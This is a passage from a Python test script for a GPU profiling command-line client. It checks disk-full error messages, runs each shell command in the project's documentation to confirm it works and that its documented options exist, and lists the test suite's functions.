        r = subprocess.run([CLIENT, "export", "run.gpuctr", "--to", "csv"], stdout=full, stderr=subprocess.PIPE,
                           check=False)
    check(r.returncode == 1 and b"No space left" in r.stderr and b"remedy" in r.stderr, f"disk full: {r}")


def commands_of_the_docs():
    """Every command in a block of docs/coming-from.md does something, and all of its verbs and options exist."""
    text = (SOURCE / "docs/coming-from.md").read_text()
    commands = [c for block in re.findall(r"^```\n(.*?)^```$", text, re.MULTILINE | re.DOTALL) for c in block.splitlines()]
    check(len(commands) >= 10, "the commands are gone")
    path = f"{CLIENT.parent}:{os.environ['PATH']}"
    for command in commands:
        if command.startswith("sqlite3") and not shutil.which("sqlite3"):
            continue
        for output in re.findall(r" (?:-o|--html) (\S+)", command):
            pathlib.Path(output).unlink(missing_ok=True)
        r = subprocess.run(["sh", "-c", command], capture_output=True, timeout=100, check=False,
                           env=dict(os.environ, PATH=path))
        made = [pathlib.Path(o).stat().st_size for o in re.findall(r" (?:-o|--html) (\S+)", command)]
        check(r.returncode == 0 and not r.stderr and (r.stdout or made), f"{command}: {r.stderr!r}")
    help_text = b"".join(subprocess.run([CLIENT, "help", v], capture_output=True, check=False).stdout
                         for v in ("run", "capture", "metrics", "report", "export", "merge")).decode()
    for cell in re.findall(r"`(gpuctr-client [^`]*)`", text):
        for option in re.findall(r" (--[a-z][a-z-]*)", cell.split(" -- ")[0]):
            check(option in help_text, f"{cell}: no option {option}")


def main():
    tests = [commands_of_the_docs, the_recording, worse_captures, wild_values, hostile_names, several_processes, perfetto_opens_the_chrome_trace, folded_sums,
             sums_with_a_budget_are_the_reports, lines_of_pyprof, pyprof_of_tensor_cores, layouts_of_pyprof, files, formulas_are_text, what_is_read_is_not_written, a_link_chooses_nothing, a_file_that_comes_meanwhile_stays,
             a_stack_as_deep_as_the_file, nobody_reads]
    return run_tests(tests, RECORDING)


sys.exit(main())
